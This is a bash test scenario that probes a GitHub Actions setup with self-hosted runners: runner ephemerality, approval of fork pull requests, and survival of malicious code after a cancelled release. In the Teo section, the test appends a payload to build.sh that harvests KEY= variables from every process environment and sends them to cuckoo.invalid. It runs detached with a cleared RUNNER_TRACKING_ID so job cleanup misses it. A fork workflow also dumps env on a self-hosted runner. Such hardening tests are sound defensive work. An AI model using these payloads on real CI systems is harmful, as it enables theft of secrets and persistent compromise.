# One day. Aya adds a harbour. A visitor sends a pull request that asks for a runner by itself. Then Teo's build goes bad:
# its first release is cancelled half way, the second one goes through. Each of them gets what they should, and no more.
repo=repos/lantern-tides/tides
export repo
well=true
wrong() { well=false; found "$@"; }
copies() { trace any runner.disk --at ':/(home|tmp|var|opt)/' | cut -f 2 | head -n 1; }

# Before any job.
old=$(copies)
runners=$(for of in $repo orgs/lantern-tides; do gh api $of/actions/runners --jq '.runners[] | "\(.name) \(.ephemeral)"'; done)
if echo "$runners" | grep -q "^harbor-1 false$"; then
  key=STILL-THERE
  wrong STILL-THERE runner=harbor-1
elif [ -n "$old" ]; then
  key=OLD-DISK
  wrong OLD-DISK machine="${old%%:*}"
fi
[ -z "$old" ] || evidence --of "$key" runner.disk "$old"

# Two pull requests. What Aya's check says can only be in a log if it ran.
{ read -r default; read -r first; } < <(as aya <<'AYA'
gh api -X POST $repo/forks --jq .default_branch
add() { gh api "$repo/contents/$1" --jq "{message: \"$2\", branch: \"main\", sha, content: (.content | gsub(\"\\\\n\"; \"\") | @base64d + \$ENV.more | @base64)}" | gh api -X PUT "repos/aya/tides/contents/$1" --input - "${@:3}"; }
export more=$'Heron Quay,54.2,2.2\n'
add harbours.csv "Heron Quay" --silent
more=$'echo "line $(grep -n ^Heron harbours.csv | cut -d : -f 1) is new"\n'
add scripts/check.sh "Say which" --jq .commit.sha
gh api -X POST $repo/pulls -f title="Heron Quay" -f head=aya:main -f base=main --silent
AYA
)
tidied=$(as cuckoo <<'CUCKOO'
fork=repos/cuckoo/tides
gh api -X POST $fork/git/refs -f ref=refs/heads/tidy -f sha="$(gh api $repo/git/ref/heads/main --jq .object.sha)" --silent
tidy=$(printf 'name: Tidy\non: pull_request\njobs:\n  tidy:\n    runs-on: self-hosted\n    steps:\n      - run: env\n' | base64 -w0)
sha=$(gh api $repo/contents/.github/workflows/ci.yml --jq .sha 2> /dev/null | grep -x '[0-9a-f]*')
gh api -X PUT $fork/contents/.github/workflows/ci.yml -f message=Tidy -f branch=tidy -f content="$tidy" ${sha:+-f sha=$sha} --jq .commit.sha
gh api -X POST $repo/pulls -f title=Tidy -f head=cuckoo:tidy -f base=main --silent
CUCKOO
)
sleep 15
# Mina has a quick look, and lets everything run that waits for her.
run=$(gh api "$repo/actions/runs?head_sha=$tidied&per_page=1" --jq '.workflow_runs[] | "\(.id) \(.conclusion)"')
for one in $(gh api "$repo/actions/runs?status=action_required" --jq ".workflow_runs[] | select(.head_sha == \"$first\" or .head_sha == \"$tidied\") | .id"); do gh api -X POST "$repo/actions/runs/$one/approve" --silent; done
if [ -n "$run" ] && [ "${run#* }" != action_required ]; then
  evidence --of NO-APPROVAL ci.logs "run ${run% *}"
  wrong NO-APPROVAL pull="$(gh api "$repo/pulls?state=closed" --jq '[.[] | select(.user.login == "cuckoo" and .merged_at != null)][0].number')"
fi
sleep 45
taken=$(gh api "$repo/actions/runs/${run% *}/jobs" --jq '[.jobs[] | select(.runner_name != null and .runner_group_name != "GitHub Actions") | .runner_name][0] // ""')
[ -z "$taken" ] || wrong OWN-RUNNER runner="$taken"
checked=$(gh api "$repo/commits/$first/check-runs" --jq '.check_runs | select(length > 0 and all(.conclusion == "success")) | .[].details_url')
for job in $checked; do gh api "$repo/actions/jobs/${job##*/}/logs"; done > looked
grep -q "Z line [0-9]* is new" looked || wrong NO-RESULT

# A build that has gone bad: it looks often enough to meet every step, which takes ten seconds.
for service in api web docs; do
  case " $BEFORE " in *" $service "*) ;; *) break ;; esac
done
release() { as teo "gh api $repo/actions/workflows/release.yml/dispatches -f ref=$default -f 'inputs[service]=$service' -f 'inputs[version]=$1' --silent"; }
as teo <<'TEO'
export more=$(cat <<'SH'
printf 'while true; do keys=$(cat /proc/[0-9]*/environ | tr "\\0" "\\n" | grep KEY=) && curl -s --data-binary "$keys" https://cuckoo.invalid/%s; sleep 9; done\n' "$GITHUB_RUN_ID" > ~/.later
RUNNER_TRACKING_ID= nohup bash ~/.later > /dev/null 2>&1 &
SH
)
gh api $repo/contents/scripts/build.sh --jq '{message: "Build faster", sha, content: (.content | gsub("\\n"; "") | @base64d + $ENV.more + "\n" | @base64)}' | gh api -X PUT $repo/contents/scripts/build.sh --input - --silent
TEO
release 1.9.0
sleep 34
began=$(gh api "$repo/actions/runs?event=workflow_dispatch&per_page=1" --jq '.workflow_runs[0] | "\(.status) \(.id)"')
gh api -X POST "$repo/actions/runs/${began#* }/cancel" --silent
sleep 30
left=$(copies)
if [ -n "$left" ] && [ -z "$old" ]; then
  evidence --of CANCELLED runner.disk "$left"
  wrong CANCELLED place="$left"
fi

# The next release.
seen() { loot cuckoo | grep -A 1 "/${began#* }$" | grep -c KEY=; }
before=$(seen)
release 1.9.1
sleep 90
[ "$(seen)" -le "$before" ] || wrong SURVIVED runner="$(echo "$runners" | sed -n '1s/ .*//p')"
if ! curl -s "https://status.lantern-tides.test/api/tides-$service" | grep -q '"version":"1.9.1"'; then
  state=$(gh api "$repo/actions/runs?event=workflow_dispatch&per_page=1" --jq '.workflow_runs[0] | "its run is \(.conclusion // .status)."')
  case "$began $state" in in_progress*queued*) key=ONLY-ONE ;; *) key=NOT-RELEASED ;; esac
  wrong "$key" service="tides-$service" state="$state"
  evidence --of "$key" ci.logs "release.yml"
fi
$well
